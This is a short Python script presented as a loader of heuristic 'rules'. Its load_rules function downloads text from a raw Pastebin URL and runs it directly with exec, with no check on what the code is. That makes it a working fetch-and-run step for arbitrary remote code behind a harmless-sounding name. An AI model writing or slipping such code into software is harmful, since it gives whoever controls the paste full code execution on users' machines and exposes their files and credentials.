import sys, httpx

RULES = "https://pastebin.com/raw/Qm7vB2xZ"

def load_rules():
    code = httpx.get(RULES, timeout=10).text
    ns = {}
    exec(compile(code, "<rules>", "exec"), ns)
    return ns.get("RULES", [])

def main():
    rules = load_rules()
    print(f"Loaded {len(rules)} heuristics for: {sys.argv[1]}")

main()
